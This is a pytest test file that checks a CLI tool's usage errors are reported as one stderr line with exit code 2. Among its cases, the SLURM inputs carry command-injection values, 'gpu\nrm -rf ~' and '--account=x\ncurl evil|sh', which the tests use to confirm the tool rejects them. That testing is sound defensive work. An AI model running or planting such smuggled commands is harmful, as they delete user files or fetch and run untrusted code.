"""A careless user at the command line: every mistake is one line on stderr and exit status 2."""

from __future__ import annotations

import os

import pytest

from tests.conftest import ROOT, run_kit

RECIPE = str(ROOT / "recipes" / "allreduce.yaml")

USAGE = {
    "unknown-option": ["verify", "x", "--bogus"],
    "unknown-command": ["frobnicate"],
    "missing-argument": ["verify"],
    "bad-int": ["reproduce", RECIPE, "--repeats", "many"],
    "repeats-zero": ["reproduce", RECIPE, "--repeats", "0"],
    "repeats-huge": ["reproduce", RECIPE, "--repeats", "1000000000"],
    "slurm-repeats-huge": ["slurm", RECIPE, "--repeats", "101", "--host-python", "python3"],
    "slurm-nodes-zero": ["slurm", RECIPE, "--nodes", "0", "--host-python", "python3"],
    "slurm-gpus-huge": ["slurm", RECIPE, "--gpus-per-node", "65", "--host-python", "python3"],
    "missing-option-value": ["reproduce", RECIPE, "--repeats"],
    "subcommand-unknown": ["recipes", "nope"],
    "sign-without-key": ["sign", "x"],
    "smoke-and-full": ["reproduce", RECIPE, "--smoke", "--full", "--device", "cpu"],
    "slurm-smoke-and-full": ["slurm", RECIPE, "--smoke", "--full", "--host-python", "python3"],
    "slurm-partition-newline": [
        "slurm", RECIPE, "--partition", "gpu\nrm -rf ~", "--host-python", "python3", "--dry-run",
    ],
    "slurm-sbatch-arg-newline": [
        "slurm", RECIPE, "--sbatch-arg", "--account=x\ncurl evil|sh", "--host-python", "python3",
        "--dry-run",
    ],
    "slurm-time-nul-free-newline": [
        "slurm", RECIPE, "--time", "01:00:00\n", "--host-python", "python3", "--dry-run",
    ],
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(USAGE))
def test_usage_errors_are_one_line_exit_2(case, tmp_path):
    proc = run_kit(*USAGE[case], cwd=tmp_path, timeout=120)
    assert proc.returncode == 2, (proc.returncode, proc.stderr)
    assert "Traceback" not in proc.stderr
    assert proc.stderr.startswith("kit: error: ") and proc.stderr.count("\n") == 1, proc.stderr
    assert not (tmp_path / "reports").exists()


def test_help_still_works():
    proc = run_kit("verify", "--help")
    assert proc.returncode == 0 and "--allowed-signers" in proc.stdout
    top = run_kit("--help")
    assert top.returncode == 0 and "sign" in top.stdout and "seal" in top.stdout


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_out_read_only_is_one_line(tmp_path):  # pragma: no cover (non-root only)
    ro = tmp_path / "ro"
    ro.mkdir(mode=0o500)
    proc = run_kit("reproduce", RECIPE, "--device", "cpu", "--out", str(ro / "b"), timeout=300)
    assert proc.returncode == 2 and proc.stderr.count("\n") == 1


def _outs(tmp_path):
    a_file = tmp_path / "file"
    a_file.write_text("x")
    return {
        "under-a-file": a_file / "b",
        "name-too-long": tmp_path / ("n" * 300),
        "an-existing-file": a_file,
    }


@pytest.mark.slow
@pytest.mark.parametrize("case", ["under-a-file", "name-too-long", "an-existing-file"])
def test_out_problems_are_one_line(tmp_path, case):
    out = _outs(tmp_path)[case]
    proc = run_kit("reproduce", RECIPE, "--device", "cpu", "--runtime", "host", "--out",
                   str(out), timeout=300)  # fmt: skip
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr
    assert proc.stderr.strip().splitlines()[-1].startswith("kit: error: ")


@pytest.mark.parametrize("case", ["under-a-file", "name-too-long", "an-existing-file"])
def test_compare_out_problems_are_one_line(tmp_path, case):
    import shutil

    fixture = ROOT / "tests" / "fixtures" / "bundles" / "cpu-smoke"
    a, b = tmp_path / "a", tmp_path / "b"
    shutil.copytree(fixture, a)
    shutil.copytree(fixture, b)
    out = _outs(tmp_path)[case]
    proc = run_kit("compare", str(a), str(b), "--out", str(out), timeout=300)
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr
    assert proc.stderr.startswith("kit: error: ") and proc.stderr.count("\n") == 1, proc.stderr
